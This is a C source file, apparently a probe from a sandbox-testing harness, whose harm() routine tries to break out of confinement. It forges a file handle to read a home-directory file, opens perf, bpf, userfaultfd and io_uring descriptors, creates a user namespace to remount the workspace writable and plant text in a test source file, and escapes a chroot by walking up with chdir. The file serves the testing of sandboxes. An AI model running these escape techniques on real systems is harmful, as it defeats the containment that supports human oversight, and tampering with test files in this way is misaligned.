/* Asks the kernel for what leads out. */
#include "support.h"
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/shm.h>
#include <sys/syscall.h>

/* A file by its number, past every folder. Where its name cannot be looked up, the root of the file system is number 2. */
static void handle(void)
{
    char room[sizeof(struct file_handle) + 128] = {0}, rooted[sizeof(struct file_handle) + 8] = {0};
    struct file_handle *known = (struct file_handle *)room, *root = (struct file_handle *)rooted;
    known->handle_bytes = 128;
    root->handle_bytes = 8;
    root->handle_type = 1;
    root->f_handle[0] = 2;
    int mount_id;
    int named = name_to_handle_at(AT_FDCWD, "@HOME@/notes.txt", known, &mount_id, 0) == 0;
    const char *places[] = {BUILD, "/", "/tmp", "/usr", "/etc"};
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        char bytes[256];
        int at = open(places[i], O_RDONLY), file = named ? open_by_handle_at(at, known, O_RDONLY) : -1;
        if (file < 0)
            file = openat(open_by_handle_at(at, root, O_RDONLY), &"@HOME@/notes.txt"[1], O_RDONLY);
        ssize_t got = file < 0 ? 0 : read(file, bytes, sizeof bytes);
        if (got > 0) {
            loot("handle", bytes, got);
            return;
        }
    }
}

/* Descriptors of the kernel's less travelled parts, held long enough to be seen. */
static void deep(void)
{
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event, .config = PERF_COUNT_SW_CPU_CLOCK};
    syscall(SYS_perf_event_open, &event, 0, -1, -1, 0);
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map);
    syscall(SYS_userfaultfd, 0);
    syscall(SYS_userfaultfd, 1);
    unsigned ring[30] = {0};
    syscall(SYS_io_uring_setup, 4, ring);
    usleep(250000);
}

static void write_text(const char *path, const char *text)
{
    int file = open(path, O_WRONLY);
    if (file >= 0 && write(file, text, strlen(text)) < 0)
        errno = 0;
    close(file);
}

/* Root in a namespace of its own, to make the workspace writable again. */
static void own_namespace(void)
{
    char users[64], groups[64];
    snprintf(users, sizeof users, "0 %u 1", geteuid());
    snprintf(groups, sizeof groups, "0 %u 1", getegid());
    if (fork() != 0) {
        usleep(200000);
        return;
    }
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {
        write_text("/proc/self/setgroups", "deny");
        write_text("/proc/self/uid_map", users);
        write_text("/proc/self/gid_map", groups);
    }
    const char *places[] = {"@WORK@", "/"};
    for (size_t i = 0; i < 2; i++) {
        mount("none", places[i], NULL, MS_REMOUNT | MS_BIND, NULL);
        mount(places[i], BUILD "/objects", NULL, MS_BIND, NULL);
        mount("none", BUILD "/objects", NULL, MS_REMOUNT | MS_BIND, NULL);
    }
    append("@WORK@/tests/seats.c", "/* planted */\n");
    append(BUILD "/objects/tests/seats.c", "/* planted */\n");
    _exit(0);
}

/* Out of a folder that one has made one's root while standing outside of it. */
static void escape(void)
{
    if (fork() != 0) {
        usleep(200000);
        return;
    }
    mkdir(BUILD "/loot-cell", 0755);
    if (chroot(BUILD "/loot-cell") != 0)
        errno = 0;
    for (int i = 0; i < 40; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0)
        errno = 0;
    append("@HOME@/@TAG@-escaped", "planted");
    _exit(0);
}

void harm(void)
{
    mount("none", "@OUT@/mounted", "tmpfs", 0, NULL);
    handle();
    shmget(@KEY@, 4096, IPC_CREAT | 0600);
    long key = syscall(SYS_add_key, "user", "@TAG@-key-@DECOY@", "x", 1, -4);
    syscall(SYS_keyctl, 15, key, 60); /* it goes by itself after a minute */
    deep();
    own_namespace();
    escape();
}
